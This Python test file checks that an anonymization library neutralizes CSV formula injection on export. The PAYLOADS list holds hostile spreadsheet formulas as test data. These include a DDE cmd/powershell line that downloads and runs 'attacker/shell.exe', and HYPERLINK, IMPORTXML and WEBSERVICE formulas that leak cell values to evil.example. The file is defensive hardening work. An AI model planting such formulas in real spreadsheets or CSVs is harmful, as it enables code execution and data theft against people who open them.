"""CSV formula injection (issue 13, item 3): every CSV anonlab writes neutralizes the cells a
spreadsheet would evaluate, by default, says so in the license, and can be told not to.

The payloads are the classic ones (OWASP's *CSV Injection* page and the DDE examples): each starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return. After neutralization each is written
with a leading ``'``; numbers (in numeric columns, and plain numbers held as text) are untouched.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import polars as pl
import pytest

import anonlab
from anonlab.bundle import Bundle
from anonlab.csv_safety import formula_cells, neutralize_csv, neutralize_name
from anonlab.errors import ParameterError
from anonlab.sinks import sink
from tests.adversarial._support import HASH_KEY, cli, make_bundle
from tests.identities import LICENSEE_KEYS

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1&B1, "click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=", A2), "//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "=1+1",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "--",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "\t=1+1",
    "\t",
    "\r=1+1",
    "\r",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=2+5+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=1e5",
    "-1.5.2",
    "+ 1",
    "-5+",
]
"""Cells a spreadsheet would evaluate (or that start like a formula)."""

SAFE = [
    "ok",
    "a=b",
    "5-3",
    "user@example.org",
    " =1+1",
    "'=1+1",
    "-5",
    "+5",
    "-1.5",
    "+1.5e3",
    "-.5",
    "1e-3",
    "",
    "x\t=1",
]
"""Cells that stay as they are: text not starting like a formula, plain numbers, a cell already
quoted."""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_a_leading_quote(payload: str) -> None:
    out = neutralize_csv(pl.LazyFrame({"note": [payload]})).collect()
    assert out["note"].to_list() == ["'" + payload]


@pytest.mark.parametrize("value", SAFE)
def test_other_text_is_unchanged(value: str) -> None:
    out = neutralize_csv(pl.LazyFrame({"note": [value]})).collect()
    assert out["note"].to_list() == [value]


@pytest.mark.parametrize(
    ("series", "kind"),
    [
        (pl.Series("n", [-5, -200, 3]), "integers"),
        (pl.Series("n", [-1.5, float("-inf"), 2.0]), "floats"),
        (pl.Series("n", [True, False, None]), "booleans"),
        (pl.Series("n", [None, None, None], dtype=pl.String), "nulls"),
        (pl.Series("n", ["2026-01-01", "-0001-01-01", None]).str.to_date(strict=False), "dates"),
    ],
)
def test_non_text_columns_are_untouched(series: pl.Series, kind: str) -> None:
    frame = series.to_frame()
    assert neutralize_csv(frame.lazy()).collect().equals(frame), kind


@pytest.mark.parametrize("dtype", [pl.Categorical, pl.Enum(["=1+1", "ok"])])
def test_categorical_columns_are_text_too(dtype: pl.DataType) -> None:
    frame = pl.DataFrame({"c": pl.Series(["=1+1", "ok"], dtype=dtype)})
    assert neutralize_csv(frame.lazy()).collect()["c"].to_list() == ["'=1+1", "ok"]


@pytest.mark.parametrize(
    ("name", "written"), [("=evil()", "'=evil()"), ("@x", "'@x"), ("-5", "-5"), ("age", "age")]
)
def test_header_names_are_neutralized(name: str, written: str) -> None:
    assert neutralize_name(name) == written
    assert neutralize_csv(pl.LazyFrame({name: [1]})).collect().columns == [written]


def test_a_neutralized_name_never_collides() -> None:
    frame = pl.LazyFrame({"=x": [1], "'=x": [2]})
    assert neutralize_csv(frame).collect().columns == ["'=x_", "'=x"]


def test_formula_cells_counts_cells_and_names() -> None:
    frame = pl.DataFrame({"note": [*PAYLOADS, *SAFE], "=h": [1] * (len(PAYLOADS) + len(SAFE))})
    assert formula_cells(frame) == len(PAYLOADS) + 1


def _csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


@pytest.mark.parametrize("progress", [False, True], ids=["native", "batched"])
@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_sink_neutralizes_by_default(tmp_path: Path, suffix: str, progress: bool) -> None:
    frame = pl.LazyFrame({"note": PAYLOADS, "n": range(-len(PAYLOADS), 0)})
    target = tmp_path / f"out{suffix}"
    sink(frame, target, progress=(lambda rows, seconds: None) if progress else None)
    text = target.read_bytes().decode("utf-8")
    rows = list(
        csv.reader(io.StringIO(text, newline=""), delimiter="\t" if suffix == ".tsv" else ",")
    )
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [int(r[1]) for r in rows[1:]] == list(range(-len(PAYLOADS), 0))


def test_sink_opt_out_and_parquet(tmp_path: Path) -> None:
    frame = pl.LazyFrame({"note": PAYLOADS})
    sink(frame, tmp_path / "raw.csv", csv_safe=False)
    assert [r[0] for r in _csv_rows(tmp_path / "raw.csv")[1:]] == PAYLOADS
    sink(frame, tmp_path / "data.parquet")
    assert pl.read_parquet(tmp_path / "data.parquet")["note"].to_list() == PAYLOADS
    with pytest.raises(ParameterError, match="csv_safe"):
        sink(frame, tmp_path / "x.csv", csv_safe="no")  # type: ignore[arg-type]


def _payload_input(tmp_path: Path) -> Path:
    frame = pl.DataFrame(
        {
            "id": [str(i) for i in range(len(PAYLOADS))],
            "note": PAYLOADS,
            "delta": list(range(-len(PAYLOADS), 0)),
        }
    )
    frame.write_parquet(tmp_path / "in.parquet")
    (tmp_path / "recipe.yaml").write_text("format_version: 1\nsteps:\n- column: id\n  op: keep\n")
    return tmp_path / "in.parquet"


def test_apply_to_csv_neutralizes(tmp_path: Path) -> None:
    """The finding of the issue: 64 of 64 payload cells were written unchanged."""
    source = _payload_input(tmp_path)
    run = cli("apply", str(tmp_path / "recipe.yaml"), str(source), "-o", str(tmp_path / "o.csv"))
    assert run.code == 0, run.err
    assert "prefixed with '" in run.out
    rows = _csv_rows(tmp_path / "o.csv")
    assert [r[1] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[2] for r in rows[1:]] == [str(n) for n in range(-len(PAYLOADS), 0)]  # numbers kept


def test_apply_no_csv_safe_writes_them_as_they_are(tmp_path: Path) -> None:
    source = _payload_input(tmp_path)
    run = cli(
        "apply",
        str(tmp_path / "recipe.yaml"),
        str(source),
        "-o",
        str(tmp_path / "o.csv"),
        "--no-csv-safe",
    )
    assert run.code == 0, run.err
    assert "--no-csv-safe" in run.out
    assert [r[1] for r in _csv_rows(tmp_path / "o.csv")[1:]] == PAYLOADS


def _payload_bundle(tmp_path: Path, **kwargs: object) -> tuple[Bundle, Path]:
    """A bundle whose released data holds the payloads (in a column the recipe keeps)."""
    from anonlab.bundle import report_page

    raw = anonlab.datasets.patients(60, seed=4).with_columns(
        pl.Series("remark", (PAYLOADS * 2)[:60])
    )
    private, public = anonlab.generate_keypair(tmp_path / "keys" / "k")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("ANONLAB_KEY", HASH_KEY)
        mp.setattr(report_page, "_figures", lambda report: "")
        recipe = anonlab.suggest_recipe(anonlab.profile(raw.drop("remark")))
        bundle = anonlab.export(
            raw,
            recipe=recipe,
            license="gdpr-pseudonymous-research",
            path=tmp_path / "b",
            license_terms={"licensee": "Lab", "expires": "2099-01-01",
                           "licensee_keys": LICENSEE_KEYS},
            signing_key=private,
            formats=("parquet", "csv"),
            **kwargs,
        )
    return bundle, public


def test_the_bundle_csv_is_neutralized_and_the_license_says_so(tmp_path: Path) -> None:
    bundle, _ = _payload_bundle(tmp_path)
    rows = _csv_rows(bundle.path / "data.csv")
    column = rows[0].index("remark")
    remarks = [r[column] for r in rows[1:]]
    assert all(r.startswith("'") for r in remarks)
    parquet = pl.read_parquet(bundle.path / "data.parquet")["remark"].to_list()
    assert sorted(remarks) == sorted("'" + p for p in parquet)  # the Parquet copy is unchanged
    release = json.loads((bundle.path / "license.json").read_bytes())["anonymization"]["release"]
    assert release["csv"] == {"formula_cells": "neutralized", "cells": 60}
    markdown = (bundle.path / "LICENSE.md").read_text()
    assert "CSV cells were neutralized against formula injection" in markdown
    assert "60 text cells or column names" in markdown


def test_the_bundle_csv_opt_out_is_stated(tmp_path: Path) -> None:
    bundle, _ = _payload_bundle(tmp_path, csv_safe=False)
    rows = _csv_rows(bundle.path / "data.csv")
    column = rows[0].index("remark")
    assert sorted(r[column] for r in rows[1:]) == sorted((PAYLOADS * 2)[:60])
    release = json.loads((bundle.path / "license.json").read_bytes())["anonymization"]["release"]
    assert release["csv"] == {"formula_cells": "unchanged", "cells": 60}
    assert "without neutralizing formula cells" in (bundle.path / "LICENSE.md").read_text()


def test_a_parquet_only_bundle_states_nothing_about_csv(tmp_path: Path) -> None:
    made = make_bundle(tmp_path)
    release = json.loads((made.path / "license.json").read_bytes())["anonymization"]["release"]
    assert "csv" not in release
    assert "formula" not in (made.path / "LICENSE.md").read_text()


def test_open_to_csv_neutralizes(tmp_path: Path) -> None:
    bundle, public = _payload_bundle(tmp_path)
    out = tmp_path / "mine.csv"
    run = cli(
        "open",
        str(bundle.path),
        "--purpose",
        "statistics",
        "--role",
        "analyst",
        "--user",
        "ada",
        "--public-key",
        str(public),
        "-o",
        str(out),
    )
    assert run.code == 0, run.err
    rows = _csv_rows(out)
    column = rows[0].index("remark")
    assert all(r[column].startswith("'") for r in rows[1:])
    raw = tmp_path / "raw.csv"
    assert (
        cli(
            "open",
            str(bundle.path),
            "--purpose",
            "statistics",
            "--role",
            "analyst",
            "--user",
            "ada",
            "--public-key",
            str(public),
            "-o",
            str(raw),
            "--no-csv-safe",
        ).code
        == 0
    )
    rows = _csv_rows(raw)
    assert sorted(r[column] for r in rows[1:]) == sorted((PAYLOADS * 2)[:60])


def test_export_refuses_a_non_bool_csv_safe(tmp_path: Path) -> None:
    with pytest.raises(ParameterError, match="csv_safe"):
        _payload_bundle(tmp_path, csv_safe="yes")
